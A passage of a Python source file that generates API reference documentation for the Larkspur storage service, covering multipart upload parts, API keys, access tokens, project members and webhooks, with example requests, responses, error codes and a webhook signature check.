                Stores one part. The body is raw bytes with an exact `Content-Length`. Sending a
                part number again replaces the earlier part. Parts can be sent in any order and in
                parallel; the server keeps up with as many concurrent parts as your rate limit
                allows, but most clients see no gain beyond 8 to 16 parallel streams per host.
            """,
                params=[
                    (
                        "Content-Length",
                        "header",
                        "integer",
                        "yes",
                        "Size of the part, 5 MiB to 5 GiB except for the last part.",
                    ),
                    (
                        "Larkspur-Checksum-CRC32C",
                        "header",
                        "string",
                        "no",
                        "Required from API version `2025-03-01` when the upload's `checksum_algorithm` is `crc32c`.",
                    ),
                    (
                        "Larkspur-Checksum-SHA256",
                        "header",
                        "string",
                        "no",
                        "Required if the upload's `checksum_algorithm` is `sha256`.",
                    ),
                ],
                response={"part_number": 3, "size": 67108864, "etag": '"p3-6a1f0c92"', "checksum_crc32c": "Qm9vdA=="},
                response_note="Returns `200 OK` with the part's entity tag, which you need for completion.",
                errors=[
                    ("404", "upload_not_found", "The upload does not exist, was aborted, or expired."),
                    ("409", "upload_already_completed", "The upload has been completed; no more parts are accepted."),
                    ("400", "checksum_mismatch", "The checksum header does not match the bytes."),
                    ("400", "invalid_part_number", "The part number is not between 1 and 10,000."),
                ],
                curl="""
                curl -X PUT "https://eu-central-1.larkspur.example/v2/buckets/media-eu/uploads/upl_8d1e62b0c4a7f935/parts/3" \\
                  -H "Authorization: Bearer $LARKSPUR_TOKEN" \\
                  -H "Larkspur-Checksum-CRC32C: Qm9vdA==" \\
                  --data-binary @part-0003.bin
            """,
                python="""
                with open("keynote.mov", "rb") as f:
                    f.seek(2 * 64 * 2**20)
                    part = upload.put_part(3, f.read(64 * 2**20))
                print(part.etag)
            """,
            ),
            Endpoint(
                title="List the parts of an upload",
                method="GET",
                path="/v2/buckets/{bucket}/uploads/{upload_id}/parts",
                scope="objects:write",
                summary="""
                Lists the parts received so far, in part-number order. This is how a client that
                lost its state finds out what to resend; see
                [How multipart uploads behave under failure](#how-multipart-uploads-behave-under-failure).
            """,
                params=[
                    p_limit("parts", 1000, 1000),
                    ("part_number_marker", "query", "integer", "no", "List parts after this number."),
                ],
                query={"limit": 3},
                response={
                    "upload_id": "upl_8d1e62b0c4a7f935",
                    "data": [
                        {"part_number": 1, "size": 67108864, "etag": '"p1-03be77d1"', "checksum_crc32c": "l3Zk0g=="},
                        {"part_number": 2, "size": 67108864, "etag": '"p2-9c40a6e8"', "checksum_crc32c": "Tq2w1A=="},
                        {"part_number": 3, "size": 67108864, "etag": '"p3-6a1f0c92"', "checksum_crc32c": "Qm9vdA=="},
                    ],
                    "has_more": True,
                    "next_part_number_marker": 3,
                },
                response_note="Returns `200 OK` with a page of parts.",
                sdk=("parts = upload.list_parts", {}),
                py_after="""
                missing = set(range(1, 81)) - {p.part_number for p in parts}
            """,
            ),
            Endpoint(
                title="Complete an upload",
                method="POST",
                path="/v2/buckets/{bucket}/uploads/{upload_id}/complete",
                scope="objects:write",
                summary="""
                Assembles the listed parts, in ascending part-number order, into the final object
                and ends the upload. Parts that were received but not listed are discarded, which
                lets you drop a part that you decided to replace with a different numbering. The
                call can take up to a minute for very large objects; keep the connection open and
                read [what to do if it drops](#how-multipart-uploads-behave-under-failure).
            """,
                params=[
                    (
                        "parts",
                        "body",
                        "object[]",
                        "yes",
                        '`{"part_number": n, "etag": "…"}` for each part, in ascending order.',
                    ),
                    (
                        "checksum_crc32c",
                        "body",
                        "string",
                        "no",
                        "Expected CRC32C of the whole object; completion fails if it differs.",
                    ),
                ],
                body={
                    "parts": [
                        {"part_number": 1, "etag": '"p1-03be77d1"'},
                        {"part_number": 2, "etag": '"p2-9c40a6e8"'},
                        {"part_number": 3, "etag": '"p3-6a1f0c92"'},
                    ]
                },
                response={k: v for k, v in OBJECT_EXAMPLE.items() if k not in ("metadata",)}
                | {
                    "key": "video/raw/2025-03-01-keynote.mov",
                    "size": 5368709120,
                    "content_type": "video/quicktime",
                    "etag": '"mp-80-e41b77a0c3d9"',
                    "checksum_crc32c": "8xQ1Zw==",
                },
                response_note="Returns `200 OK` with the new object.",
                errors=[
                    ("400", "part_too_small", "A part other than the last is under 5 MiB."),
                    ("400", "part_etag_mismatch", "A listed entity tag does not match the part the server holds."),
                    ("400", "parts_not_ascending", "The list is not in strictly ascending part-number order."),
                    ("409", "upload_already_completed", "Already completed with a different part list."),
                    ("412", "precondition_failed", "The condition given when the upload started no longer holds."),
                ],
                sdk=("obj = upload.complete", {}),
                py_after="""
                # complete() uses the parts this Upload object sent; pass parts=[...] to override.
            """,
                layout=1,
            ),
            Endpoint(
                title="Abort an upload",
                method="DELETE",
                path="/v2/buckets/{bucket}/uploads/{upload_id}",
                scope="objects:write",
                summary="""
                Ends the upload and deletes its parts. Parts that are still arriving when you
                abort may be stored after the abort and are then deleted by a background sweep
                within an hour; they are not billed.
            """,
                params=[
                    ("reason", "query", "string", "no", "Recorded in the audit log."),
                    (
                        "if_state",
                        "query",
                        "string",
                        "no",
                        "Abort only if the upload is in this state, usually `in_progress`.",
                    ),
                ],
                status="204 No Content",
                response="none",
                errors=[("409", "upload_already_completed", "Too late: the object exists. Delete it instead.")],
                sdk=("upload.abort", {"reason": "source file changed"}),
            ),
            Endpoint(
                title="List uploads in progress",
                method="GET",
                path="/v2/buckets/{bucket}/uploads",
                scope="objects:read",
                summary="""
                Lists the bucket's uploads that have been started and neither completed nor
                aborted, oldest first. Run this occasionally on busy buckets: uploads left behind by
                crashed clients are billed until they expire.
            """,
                params=[
                    ("prefix", "query", "string", "no", "Only uploads whose key starts with this."),
                    ("older_than", "query", "integer", "no", "Only uploads started more than this many seconds ago."),
                    p_limit("uploads"),
                    p_cursor(),
                ],
                query={"prefix": "video/raw/", "limit": 2},
                response="list",
                sdk=("for up in client.uploads.list", {"bucket": "media-eu", "older_than": 86400}),
                py_after="""
                    up.abort(reason="stale")
            """,
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# API keys
# --------------------------------------------------------------------------------------------

KEY_EXAMPLE = {
    "id": "key_2b7e9c41d0a6",
    "name": "billing-worker 2025-03",
    "prefix": "lk_live_7Qm2",
    "environment": "live",
    "scopes": ["objects:read", "objects:write"],
    "allowed_cidrs": ["10.20.0.0/16"],
    "buckets": ["invoices", "invoices-archive"],
    "created_by": "usr_71c3e8a2f5b0",
    "created_at": "2025-03-01T10:12:40.066Z",
    "last_used_at": "2025-03-04T09:14:58.000Z",
    "expires_at": None,
    "state": "active",
}

RESOURCES.append(
    Resource(
        title="API keys",
        singular="API key",
        plural="API keys",
        intro="""
        API keys are long-lived credentials for servers and pipelines. This part covers managing
        them; how to *use* one is under [Authentication](#api-keys). A project can hold up to 200
        active keys. Every key records when it was last used, to the minute, which is the most
        useful single piece of information when you are cleaning up.

        A key can be restricted in three ways besides its scopes: to a list of buckets, to a list
        of client IP ranges, and to an expiry date. Restrictions are checked on every request and
        failures are reported as `403 key_restriction_violated` with the restriction named, but
        not the value, in the message.
    """,
        object_heading="### The API key object",
        fields=[
            ("id", "string", "Identifier, prefix `key_`. Not a secret."),
            ("name", "string", "Your description of the key, up to 100 characters."),
            ("prefix", "string", "First 12 characters of the secret, for recognising it in logs."),
            ("environment", "string", "`live` or `test`."),
            ("scopes", "string[]", "Granted [scopes](#scopes)."),
            ("allowed_cidrs", "string[]", "Client IP ranges allowed to use the key; empty means any."),
            ("buckets", "string[]", "Buckets the key may touch; empty means all buckets in the project."),
            ("created_by", "string", "User who created the key."),
            ("created_at", "timestamp", "Creation time."),
            (
                "last_used_at",
                "timestamp",
                "Last successful authentication, truncated to the minute; `null` if never used.",
            ),
            ("expires_at", "timestamp", "When the key stops working; `null` for no expiry."),
            ("state", "string", "`active`, `rotating` (a successor exists) or `revoked`."),
        ],
        example=KEY_EXAMPLE,
        variant={
            "id": "key_90d5ab1e7c33",
            "name": "ci (github actions)",
            "prefix": "lk_test_Hc81",
            "environment": "test",
            "scopes": ["objects:read", "objects:write", "buckets:manage"],
            "allowed_cidrs": [],
            "buckets": [],
            "created_at": "2024-08-19T13:30:02.511Z",
            "last_used_at": "2025-03-04T07:55:00.000Z",
            "expires_at": "2025-08-19T00:00:00.000Z",
        },
        endpoints=[
            Endpoint(
                title="List API keys",
                method="GET",
                path="/v2/keys",
                scope="keys:manage",
                summary="""
                Lists the project's keys, newest first. Revoked keys are listed for 90 days after
                revocation so that audit trails can still name them, and are then removed.
            """,
                params=[
                    ("state", "query", "string", "no", "`active|rotating|revoked`. Default: `active` and `rotating`."),
                    (
                        "unused_for_days",
                        "query",
                        "integer",
                        "no",
                        "Only keys not used in this many days, or never used.",
                    ),
                    p_limit("keys", 50, 200),
                    p_cursor(),
                ],
                query={"unused_for_days": 30},
                response="list",
                sdk=("stale = client.keys.list", {"unused_for_days": 30}),
                py_after="""
                for key in stale:
                    print(f"{key.prefix}…  {key.name!r} last used {key.last_used_at or 'never'}")
            """,
            ),
            Endpoint(
                title="Create an API key",
                method="POST",
                path="/v2/keys",
                scope="keys:manage",
                summary="""
                Creates a key and returns it, including the secret, which is never shown again.
                Store it in your secret manager before doing anything else with the response. A
                key cannot be created with scopes that the caller does not itself hold, so a key
                with `keys:manage` but not `admin` cannot mint an admin key.
            """,
                params=[
                    ("name", "body", "string", "yes", "Description, up to 100 characters."),
                    ("scopes", "body", "string[]", "yes", "At least one [scope](#scopes)."),
                    ("environment", "body", "string", "no", "`live` (default) or `test`."),
                    ("buckets", "body", "string[]", "no", "Restrict the key to these buckets."),
                    (
                        "allowed_cidrs",
                        "body",
                        "string[]",
                        "no",
                        "Restrict the key to these client IP ranges, up to 20.",
                    ),
                    ("expires_at", "body", "timestamp", "no", "Expiry, at most five years ahead."),
                ],
                body={
                    "name": "billing-worker 2025-03",
                    "scopes": ["objects:read", "objects:write"],
                    "buckets": ["invoices", "invoices-archive"],
                    "allowed_cidrs": ["10.20.0.0/16"],
                },
                status="201 Created",
                response=KEY_EXAMPLE | {"secret": "lk_live_7Qm2xV9pK4rT8wZ3nB6cD1fG5hJ0sL2a", "last_used_at": None},
                response_note="Returns `201 Created` with the key object plus `secret`, the only time the secret appears.",
                errors=[
                    ("403", "scope_escalation", "The request asks for a scope the caller does not hold."),
                    ("403", "quota_exceeded", "The project already has 200 active keys."),
                    ("400", "invalid_cidr", "An entry in `allowed_cidrs` is not a valid IPv4 or IPv6 prefix."),
                ],
                sdk=(
                    "key = client.keys.create",
                    {
                        "name": "billing-worker 2025-03",
                        "scopes": ["objects:read", "objects:write"],
                        "buckets": ["invoices", "invoices-archive"],
                    },
                ),
                py_after="""
                vault.put("larkspur/billing-worker", key.secret)  # your secret store here
            """,
            ),
            Endpoint(
                title="Retrieve an API key",
                method="GET",
                path="/v2/keys/{key_id}",
                scope="keys:manage",
                summary="""
                Returns one key, without its secret. To find the key a secret belongs to, call
                this with the ID `self` using that secret; any key may read itself without
                `keys:manage`, which is how a service can check its own scopes and expiry at
                start-up.
            """,
                params=[
                    p_fields(),
                    ("expand", "query", "string", "no", "`created_by` to expand the user."),
                    ("include_usage", "query", "boolean", "no", "Add request counts for the last 30 days."),
                ],
                errors=[("404", "key_not_found", "No such key in the project.")],
                sdk=("me = client.keys.get", {"key_id": "self"}),
                py_after="""
                if "objects:write" not in me.scopes:
                    raise SystemExit("this worker needs objects:write")
            """,
            ),
            Endpoint(
                title="Rotate a key",
                method="POST",
                path="/v2/keys/{key_id}/rotate",
                scope="keys:manage",
                summary="""
                Creates a successor with the same name, scopes and restrictions, and schedules the
                old key to stop working after a grace period. During the grace period both keys
                work and the old one is in state `rotating`. This is a convenience for the
                procedure in [Rotating a key without downtime](#rotating-a-key-without-downtime);
                it does not replace the deploy in the middle.

                Rotating also accepts `rotate_url_secret`, which replaces the secret used to sign
                URLs created locally with this key and invalidates every such URL at once.
            """,
                params=[
                    ("grace_period_seconds", "body", "integer", "no", "0 to 2,592,000 (30 days). Default 86,400."),
                    ("name", "body", "string", "no", "Name of the successor. Default: same as the old key."),
                    (
                        "rotate_url_secret",
                        "body",
                        "boolean",
                        "no",
                        "Also invalidate signed URLs made with the old key. Default `false`.",
                    ),
                ],
                body={"grace_period_seconds": 172800, "rotate_url_secret": True},
                status="201 Created",
                response={
                    "old": {"id": "key_2b7e9c41d0a6", "state": "rotating", "expires_at": "2025-03-06T09:15:22.481Z"},
                    "new": KEY_EXAMPLE
                    | {
                        "id": "key_c45e0a9b8d21",
                        "prefix": "lk_live_p0Zd",
                        "created_at": "2025-03-04T09:15:22.481Z",
                        "last_used_at": None,
                        "secret": "lk_live_p0Zd3Wq8Lm1Yt6Rf9Vb2Nx5Kc7Hj4Gs0e",
                    },
                },
                response_note="Returns `201 Created` with both keys; only the new one carries a secret.",
                errors=[("409", "key_already_rotating", "The key has a successor already; revoke one of them first.")],
                sdk=("rotation = client.keys.rotate", {"key_id": "key_2b7e9c41d0a6", "grace_period": 172800}),
                layout=2,
            ),
            Endpoint(
                title="Revoke a key",
                method="DELETE",
                path="/v2/keys/{key_id}",
                scope="keys:manage",
                summary="""
                Revokes a key immediately and permanently. Requests in flight may complete; new
                ones are refused within five seconds in every region. Access tokens minted from the
                key are revoked with it. Signed URLs made with the key keep working until they
                expire, unless the key's URL secret was rotated.
            """,
                params=[
                    ("reason", "query", "string", "no", "Recorded in the audit log and shown in the console."),
                    (
                        "revoke_tokens",
                        "query",
                        "boolean",
                        "no",
                        "Also revoke access tokens minted from the key. Default `true`.",
                    ),
                    ("If-Match", "header", "string", "no", "Revoke only if the key has not changed."),
                ],
                query={"reason": "leaked%20in%20CI%20log"},
                status="204 No Content",
                response="none",
                sdk=("client.keys.revoke", {"key_id": "key_2b7e9c41d0a6", "reason": "leaked in CI log"}),
                extra="""
                > **Note**
                > If a key has leaked, revoke it first and ask questions later. Then read the
                > [audit log](#audit-logs) for `actor.key_id` equal to the key's ID to see what it
                > was used for, and from which addresses.
            """,
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Tokens
# --------------------------------------------------------------------------------------------

RESOURCES.append(
    Resource(
        title="Tokens",
        singular="token",
        plural="tokens",
        intro="""
        Access tokens are short-lived bearer credentials. The token endpoint implements the
        OAuth 2.0 client-credentials grant, with an API key as the client secret, and the token
        exchange grant, which turns a user's single sign-on assertion into a Larkspur token.
        Tokens cannot be listed or updated, only minted, inspected and revoked.

        A token carries at most the scopes of its parent, optionally narrowed, and can be bound
        to a set of buckets and key prefixes. It is the recommended way to give a browser app or a
        batch job exactly the access it needs: for example, a token that may write only under
        `uploads/usr_71c3e8a2f5b0/` in one bucket, for ten minutes.
    """,
        endpoints=[
            Endpoint(
                title="Mint an access token",
                method="POST",
                path="/v2/tokens",
                summary="""
                Returns a new access token. Authenticate with the API key as a bearer token (or
                with HTTP Basic, key ID as user name and secret as password, for OAuth libraries
                that insist on it). The `expires_in` you ask for is capped at 12 hours, and at the
                remaining lifetime of the parent if that is shorter.
            """,
                params=[
                    (
                        "grant_type",
                        "body",
                        "string",
                        "yes",
                        "`client_credentials` or `urn:ietf:params:oauth:grant-type:token-exchange`.",
                    ),
                    (
                        "scope",
                        "body",
                        "string",
                        "no",
                        "Space-separated scopes, a subset of the parent's. Default: all of them.",
                    ),
                    ("expires_in", "body", "integer", "no", "Seconds, 300 to 43,200. Default 3,600."),
                    ("buckets", "body", "string[]", "no", "Restrict the token to these buckets."),
                    (
                        "key_prefixes",
                        "body",
                        "string[]",
                        "no",
                        "Restrict object access to keys starting with one of these.",
                    ),
                    ("subject_token", "body", "string", "no", "Token exchange only: the SSO assertion."),
                ],
                body={
                    "grant_type": "client_credentials",
                    "scope": "objects:write",
                    "expires_in": 600,
                    "buckets": ["media-eu"],
                    "key_prefixes": ["uploads/usr_71c3e8a2f5b0/"],
                },
                status="201 Created",
                response={
                    "access_token": "lkt_eyJhbGciOiJFZERTQSIsImtpZCI6IjIwMjUtMDMifQ.eyJzY29wZSI6Im9iamVjdHM6d3JpdGUiLCJleHAiOjE3NDEwODIxMjJ9.Zm9v…",
                    "token_type": "Bearer",
                    "expires_in": 600,
                    "scope": "objects:write",
                    "token_id": "tok_5b2f9e01c7d8",
                },
                response_note="Returns `201 Created` with the token in OAuth 2.0 format, plus `token_id` for revocation.",
                errors=[
                    ("400", "unsupported_grant_type", "`grant_type` is not one of the two above."),
                    ("403", "scope_escalation", "`scope` includes something the parent credential lacks."),
                    ("401", "invalid_subject_token", "The SSO assertion is expired, unsigned or for another audience."),
                ],
                sdk=(
                    "token = client.tokens.mint",
                    {
                        "scope": ["objects:write"],
                        "expires_in": 600,
                        "buckets": ["media-eu"],
                        "key_prefixes": ["uploads/usr_71c3e8a2f5b0/"],
                    },
                ),
                py_after="""
                browser_client_config = {"token": token.access_token, "expires_at": token.expires_at.isoformat()}
            """,
            ),
            Endpoint(
                title="Inspect a token",
                method="POST",
                path="/v2/tokens/introspect",
                summary="""
                Tells you whether a token is active and what it may do, following RFC 7662. Any
                credential in the same project can introspect any token of that project; the
                response for a token of another project, or a token that never existed, is simply
                `{"active": false}`, as the RFC requires.
            """,
                params=[
                    ("token", "body", "string", "yes", "The token to inspect."),
                    ("token_type_hint", "body", "string", "no", "`access_token`; accepted and ignored."),
                    (
                        "include_restrictions",
                        "body",
                        "boolean",
                        "no",
                        "Return `buckets` and `key_prefixes`. Default `true`.",
                    ),
                ],
                body={"token": "lkt_eyJhbGciOiJFZERTQSIsImtpZCI6IjIwMjUtMDMifQ…"},
                response={
                    "active": True,
                    "token_id": "tok_5b2f9e01c7d8",
                    "scope": "objects:write",
                    "exp": 1741082122,
                    "iat": 1741081522,
                    "parent": "key_2b7e9c41d0a6",
                    "buckets": ["media-eu"],
                    "key_prefixes": ["uploads/usr_71c3e8a2f5b0/"],
                },
                response_note="Returns `200 OK`, always, with `active` telling you the answer.",
                sdk=("info = client.tokens.introspect", {"token": "lkt_eyJhbGciOiJFZERTQSIsImtpZCI6IjIwMjUtMDMifQ…"}),
                py_after="""
                assert info.active and "objects:write" in info.scope.split()
            """,
                layout=0,
            ),
            Endpoint(
                title="Revoke a token",
                method="POST",
                path="/v2/tokens/revoke",
                summary="""
                Revokes a token before it expires, following RFC 7009. Revoking an unknown or
                already revoked token succeeds, so that clients can revoke on logout without
                caring about state. Revocation is effective everywhere within five seconds.
            """,
                params=[
                    ("token", "body", "string", "no", "The token to revoke. Either this or `token_id`."),
                    ("token_id", "body", "string", "no", "ID of the token to revoke, from the mint response."),
                    ("reason", "body", "string", "no", "Recorded in the audit log."),
                    ("cascade", "body", "boolean", "no", "Also revoke tokens exchanged from this one. Default `true`."),
                ],
                body={"token_id": "tok_5b2f9e01c7d8", "reason": "user signed out"},
                status="200 OK",
                response={"revoked": True},
                response_note='Returns `200 OK` with `{"revoked": true}` whether or not the token was active.',
                sdk=("client.tokens.revoke", {"token_id": "tok_5b2f9e01c7d8", "reason": "user signed out"}),
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Users
# --------------------------------------------------------------------------------------------

USER_EXAMPLE = {
    "id": "usr_71c3e8a2f5b0",
    "email": "zoe.marchetti@example.com",
    "name": "Zoë Marchetti",
    "role": "admin",
    "status": "active",
    "sso": True,
    "mfa_enabled": True,
    "joined_at": "2023-11-02T14:03:11.204Z",
    "last_seen_at": "2025-03-04T08:57:40.000Z",
}

RESOURCES.append(
    Resource(
        title="Users",
        singular="user",
        plural="users",
        intro="""
        Users are people who sign in to the console or mint tokens through single sign-on. A user
        belongs to an organization and holds one role in each project they are a member of. The
        endpoints here manage *membership of the current project*; creating user accounts
        themselves happens through invitations or through your identity provider's SCIM
        integration, which is configured in the console and not described in this manual.

        | Role | Can do |
        |:-----|:-------|
        | `owner` | Everything, including deleting the project and changing other owners. At least one per project. |
        | `admin` | Everything except deleting the project and managing owners. |
        | `developer` | Read and write objects, manage buckets, webhooks and their own API keys. |
        | `viewer` | Read objects, settings and audit logs. No writes. |
        | `billing` | Read and download invoices and usage. Nothing else. |
    """,
        fields=[
            ("id", "string", "Identifier, prefix `usr_`."),
            ("email", "string", "Sign-in address."),
            ("name", "string", "Display name, as the user set it. May contain any Unicode text."),
            ("role", "string", "Role in this project: `owner|admin|developer|viewer|billing`."),
            ("status", "string", "`invited`, `active` or `suspended`."),
            ("sso", "boolean", "Whether the user signs in through the organization's identity provider."),
            (
                "mfa_enabled",
                "boolean",
                "Whether the user has a second factor. Always `true` for SSO users, by policy of the provider.",
            ),
            ("joined_at", "timestamp", "When the user joined the project."),
            ("last_seen_at", "timestamp", "Last sign-in or token mint, to the minute."),
        ],
        example=USER_EXAMPLE,
        variant={
            "id": "usr_0a9d4e6b2c81",
            "email": "k.watanabe@example.jp",
            "name": "渡辺 健二",
            "role": "developer",
            "sso": False,
            "mfa_enabled": False,
            "joined_at": "2024-04-22T01:10:33.871Z",
            "last_seen_at": "2025-03-03T23:41:00.000Z",
        },
        endpoints=[
            Endpoint(
                title="List project members",
                method="GET",
                path="/v2/users",
                scope="users:manage",
                summary="""
                Lists the members of the current project, including invited users who have not
                accepted yet. Viewers may call this endpoint without `users:manage` and get every
                field except `email`, which is hidden from them for privacy.
            """,
                params=[
                    ("role", "query", "string", "no", "Only members with this role."),
                    ("status", "query", "string", "no", "`invited|active|suspended`."),
                    ("mfa_enabled", "query", "boolean", "no", "`false` finds members without a second factor."),
                    ("q", "query", "string", "no", "Case-insensitive substring of name or email."),
                    p_limit("members"),
                    p_cursor(),
                ],
                query={"mfa_enabled": "false", "status": "active"},
                response="list",
                sdk=("no_mfa = client.users.list", {"mfa_enabled": False, "status": "active"}),
                py_after="""
                for user in no_mfa:
                    print(user.name, user.email)  # names may be non-ASCII: print to a UTF-8 stream
            """,
            ),
            Endpoint(
                title="Invite a user",
                method="POST",
                path="/v2/users/invitations",
                scope="users:manage",
                summary="""
                Sends an invitation email and creates a member in status `invited`. The invitation
                is valid for 14 days. If the address already belongs to a user of the
                organization, they are added directly, without an email, and the response status
                is `200` instead of `201`. Owners can invite owners; admins can invite every other
                role.
            """,
                params=[
                    ("email", "body", "string", "yes", "Address to invite."),
                    ("role", "body", "string", "yes", "Role in the project."),
                    (
                        "message",
                        "body",
                        "string",
                        "no",
                        "Personal note included in the email, up to 500 characters, plain text.",
                    ),
                    (
                        "locale",
                        "body",
                        "string",
                        "no",
                        "Language of the email: `en`, `de`, `fr`, `ja`, `pt-BR`. Default: the inviter's.",
                    ),
                ],
                body={
                    "email": "ines.duarte@example.pt",
                    "role": "developer",
                    "message": "Bem-vinda! You'll need this for the media pipeline.",
                    "locale": "pt-BR",
                },
                status="201 Created",
                response=USER_EXAMPLE
                | {
                    "id": "usr_e83b1f07a4c2",
                    "email": "ines.duarte@example.pt",
                    "name": None,
                    "role": "developer",
                    "status": "invited",
                    "sso": False,
                    "mfa_enabled": False,
                    "joined_at": None,
                    "last_seen_at": None,
                },
                response_note="Returns `201 Created` with the new member in status `invited`.",
                errors=[
                    ("409", "already_member", "The address belongs to a member of this project already."),
                    ("403", "role_escalation", "An admin tried to invite an owner."),
                    ("400", "email_domain_blocked", "Your organization restricts invitations to certain domains."),
                ],
                sdk=("member = client.users.invite", {"email": "ines.duarte@example.pt", "role": "developer"}),
                layout=1,
            ),
            Endpoint(
                title="Retrieve a member",
                method="GET",
                path="/v2/users/{user_id}",
                scope="users:manage",
                summary="""
                Returns one member of the project. The ID `me` is the user behind the current
                token; it works with any user token and returns `404` for API keys, which have no
                user.
            """,
                params=[
                    p_fields(),
                    ("include", "query", "string", "no", "`projects` to list the user's other projects you can see."),
                    ("If-None-Match", "header", "string", "no", "Answers `304` if unchanged."),
                ],
                errors=[("404", "user_not_found", "Not a member of this project, or `me` with an API key.")],
                sdk=("me = client.users.get", {"user_id": "me"}),
            ),
            Endpoint(
                title="Change a member's role",
                method="PATCH",
                path="/v2/users/{user_id}",
                scope="users:manage",
                summary="""
                Changes a member's role or suspends them. Demoting the last owner is refused.
                Suspending a member revokes their tokens immediately but keeps the API keys they
                created, which belong to the project, not to the user; review those separately.
            """,
                params=[
                    ("role", "body", "string", "no", "New role."),
                    ("status", "body", "string", "no", "`active` or `suspended`."),
                    ("reason", "body", "string", "no", "Recorded in the audit log."),
                ],
                body={"role": "viewer", "reason": "moved to the analytics team"},
                errors=[
                    ("409", "last_owner", "The change would leave the project without an owner."),
                    ("403", "role_escalation", "Admins cannot grant or remove the owner role."),
                ],
                sdk=(
                    "client.users.update",
                    {"user_id": "usr_0a9d4e6b2c81", "role": "viewer", "reason": "moved to the analytics team"},
                ),
            ),
            Endpoint(
                title="Remove a member",
                method="DELETE",
                path="/v2/users/{user_id}",
                scope="users:manage",
                summary="""
                Removes a member from the project, or withdraws an invitation. The user's account
                and their memberships of other projects are untouched. Their audit log entries stay,
                naming them by ID and by the email address they had at the time.
            """,
                params=[
                    ("reason", "query", "string", "no", "Recorded in the audit log."),
                    (
                        "transfer_keys_to",
                        "query",
                        "string",
                        "no",
                        "User ID to record as creator of the removed member's API keys.",
                    ),
                    ("If-Match", "header", "string", "no", "Remove only if the membership has not changed."),
                ],
                status="204 No Content",
                response="none",
                errors=[("409", "last_owner", "The member is the last owner.")],
                sdk=("client.users.remove", {"user_id": "usr_e83b1f07a4c2"}),
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Webhooks
# --------------------------------------------------------------------------------------------

WEBHOOK_EXAMPLE = {
    "id": "whk_5a0d3f7c9e12",
    "url": "https://hooks.example.com/larkspur",
    "description": "Thumbnail generator",
    "events": ["object.created", "object.deleted"],
    "filter": {"buckets": ["media-eu"], "key_prefix": "originals/"},
    "enabled": True,
    "secret_prefix": "whsec_3Tq",
    "created_at": "2024-05-10T12:00:41.390Z",
    "last_delivery": {"at": "2025-03-04T09:15:23.004Z", "status": 200, "duration_ms": 184},
    "failure_streak": 0,
}

EVENT_TYPES = [
    ("object.created", "An object was written by `PUT`, copy or multipart completion."),
    ("object.deleted", "An object was deleted or a delete marker was added."),
    ("object.restored", "An archived object finished restoring and can be read."),
    ("object.copied", "A background copy of a large object finished."),
    ("upload.aborted", "A multipart upload was aborted by a client (expiry sends nothing)."),
    ("bucket.created", "A bucket was created."),
    ("bucket.updated", "A bucket's settings changed; the payload lists the changed fields."),
    ("bucket.deleted", "A bucket was deleted."),
    ("replication.failed", "An object could not be replicated after 24 hours of retries."),
    ("lifecycle.completed", "A daily lifecycle run finished for a bucket, with counts."),
    ("quota.threshold", "Usage of a quota crossed 80 % or 100 %."),
    ("key.expiring", "An API key expires in 7 days."),
    ("invoice.finalized", "A monthly invoice was finalized."),
]

RESOURCES.append(
    Resource(
        title="Webhooks",
        singular="webhook",
        plural="webhooks",
        intro="""
        Webhooks send an HTTPS `POST` to a URL of yours when something happens in the project.
        Deliveries are at least once: the same event can arrive twice, for example when your
        server took longer than ten seconds to answer the first time, so make your handler
        idempotent on `event.id`. They are also not ordered; use the event's `occurred_at` and
        the object's `version_id` when order matters.

        A delivery succeeds when your endpoint answers with any `2xx` status within ten seconds.
        Failures are retried with exponential backoff for 24 hours, at roughly 30 seconds, 2, 10
        and 30 minutes, then hourly. After 24 hours of consecutive failures the webhook is
        disabled and the project's owners are emailed.
    """,
        fields=[
            ("id", "string", "Identifier, prefix `whk_`."),
            ("url", "string", "HTTPS endpoint to deliver to. Plain HTTP is refused, as are private addresses."),
            ("description", "string", "Your description, up to 200 characters."),
            ("events", "string[]", "Event types to send; see the table below. `*` means all."),
            ("filter", "object", "Optional `buckets` list and `key_prefix` for object events."),
            ("enabled", "boolean", "Disabled webhooks keep their configuration and receive nothing."),
            ("secret_prefix", "string", "First characters of the signing secret."),
            ("created_at", "timestamp", "Creation time."),
            ("last_delivery", "object", "Time, status and duration of the most recent attempt."),
            ("failure_streak", "integer", "Consecutive failed attempts."),
        ],
        example=WEBHOOK_EXAMPLE,
        variant={
            "id": "whk_b81e20c4d6f3",
            "url": "https://ops.example.com/alerts/larkspur",
            "description": "Ops alerts",
            "events": ["replication.failed", "quota.threshold", "key.expiring"],
            "filter": {},
            "secret_prefix": "whsec_m0P",
            "created_at": "2024-09-02T07:21:18.112Z",
            "last_delivery": {"at": "2025-02-28T03:00:09.871Z", "status": 502, "duration_ms": 10000},
            "failure_streak": 3,
        },
        before=[
            "### Event types",
            "\x00" + table(["Event", "Sent when"], ["l", "l"], [[f"`{e}`", d] for e, d in EVENT_TYPES]),
            """
        ### Verifying webhook signatures

        Every delivery carries `Larkspur-Signature: t=<unix time>,v1=<hex HMAC-SHA256>`, computed
        over the string `<t>.<raw body>` with the webhook's secret. Verify it on the raw bytes,
        before parsing the JSON, and reject deliveries whose `t` is more than five minutes old:

        ```python
        import hashlib
        import hmac
        import time

        def verify(secret: str, header: str, body: bytes, tolerance: int = 300) -> bool:
            fields = dict(item.split("=", 1) for item in header.split(","))
            timestamp = int(fields["t"])
            if abs(time.time() - timestamp) > tolerance:
                return False
            expected = hmac.new(secret.encode(), f"{timestamp}.".encode() + body, hashlib.sha256).hexdigest()
            # During secret rotation the header carries two v1 values; any match is enough.
            candidates = [v for k, v in (i.split("=", 1) for i in header.split(",")) if k == "v1"]
            return any(hmac.compare_digest(expected, c) for c in candidates)
        ```

        > **Warning**
        > Frameworks that parse JSON for you often re-serialise it before you see it, which
        > changes whitespace and breaks the signature. In Flask use `request.get_data()`, in
        > Django `request.body`, in FastAPI `await request.body()`.
        """,
        ],
        endpoints=[
            Endpoint(
                title="List webhooks",
                method="GET",
                path="/v2/webhooks",
                scope="webhooks:manage",
                summary="Lists the project's webhooks, enabled or not, oldest first.",
                params=[
                    ("enabled", "query", "boolean", "no", "Filter on `enabled`."),
                    ("event", "query", "string", "no", "Only webhooks subscribed to this event type."),
                    p_limit("webhooks", 100, 100),
                    p_cursor(),
                ],
                response="list",
                sdk=("hooks = client.webhooks.list", {"event": "replication.failed"}),
            ),
            Endpoint(
